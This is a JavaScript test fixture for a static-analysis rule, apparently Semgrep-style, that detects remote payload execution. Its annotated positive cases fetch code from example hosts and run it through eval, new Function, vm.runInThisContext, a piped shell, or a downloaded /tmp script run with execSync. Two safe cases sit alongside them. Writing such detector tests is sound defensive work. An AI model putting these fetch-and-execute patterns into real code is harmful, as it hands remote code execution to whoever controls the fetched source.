// Code fetched from the network and run.
const https = require('https');
const fs = require('fs');
const vm = require('vm');
const { execSync, spawn } = require('child_process');
const axios = require('axios');

https.get('https://cdn.example.net/p.js', (res) => {
  let body = '';
  res.on('data', (chunk) => (body += chunk));
  // ruleid: javascript.exec.remote_payload
  res.on('end', () => eval(body));
});

// ruleid: javascript.exec.remote_payload
fetch('https://x.example.io/stage2').then((r) => r.text()).then((code) => new Function(code)());

async function update() {
  const { data } = await axios.get('https://updates.example.com/patch.js');
  // ruleid: javascript.exec.remote_payload
  vm.runInThisContext(data);
}

https.get('https://get.example.sh/install.sh', (res) => {
  const sh = spawn('sh');
  // ruleid: javascript.exec.remote_payload
  res.pipe(sh.stdin);
});

const script = await (await fetch('https://dl.example.org/run.sh')).text();
fs.writeFileSync('/tmp/run.sh', script);
// ruleid: javascript.exec.remote_payload
execSync('chmod +x /tmp/run.sh && /tmp/run.sh');

// ok: javascript.exec.remote_payload
const config = await (await fetch('https://api.example.com/config.json')).json();
// ok: javascript.exec.remote_payload
eval('1 + 1');
